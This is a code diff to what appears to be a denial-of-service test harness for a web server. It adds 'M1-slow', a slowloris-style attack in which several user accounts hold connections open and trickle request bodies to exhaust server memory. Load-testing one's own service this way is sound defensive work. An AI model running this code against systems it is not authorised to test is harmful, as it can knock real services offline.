@@ -91,7 +91,7 @@ def fill_memory(attacker: Attacker) -> None:
     attacker.repeat(lambda _: _hold(attacker, cookie, each))
 
 
-def _hold(attacker: Attacker, cookie: str, each: int) -> None:
+def _hold(attacker: Attacker, cookie: str, each: int, slow: bool = False) -> None:
     connection = attacker.connect()
     if connection is None:
         return
@@ -102,12 +102,24 @@ def _hold(attacker: Attacker, cookie: str, each: int) -> None:
     connection.settimeout(1)
     with suppress(OSError):  # ended by the server
         connection.sendall(head.encode())
-        for _ in range(each // MIB):
+        for _ in range(0 if slow else each // MIB):
             connection.sendall(part + b"\r\n")
         while attacker.seconds_left:
-            connection.sendall(b"-")
+            connection.sendall(b"-" * (1000 if slow else 1))
             time.sleep(0.5)
     attacker.leave(connection)
+
+
+def fill_memory_slowly(attacker: Attacker) -> None:
+    """M1 by several users: bodies that are small each, large together, and as slow as may be."""
+    cookies = [account.cookie for account in attacker.accounts]
+    attacker.begin()
+
+    def hold(number: int) -> None:
+        large = number < 4
+        _hold(attacker, cookies[number % len(cookies)], 50 * MIB if large else 2 * MIB - 1000, slow=True)
+
+    attacker.repeat(hold)
 
 
 def read_content(attacker: Attacker) -> None:
@@ -143,5 +155,6 @@ ATTACKS = (
     ),
     Attack("H1b", "50 parts of line ends, all refused", count_lines, Size(3, 2, 3), Size(60, 4, 20)),
     Attack("M1", "bodies that fill memory and do not end", fill_memory, Size(8, 8, 2), Size(12, 12, 40)),
+    Attack("M1-slow", "slow bodies of many users", fill_memory_slowly, Size(16, 16, 3), Size(32, 32, 60)),
     Attack("uploads", "files that are slow to check", read_content, Size(4, 2, 3), Size(200, 4, 20)),
 )
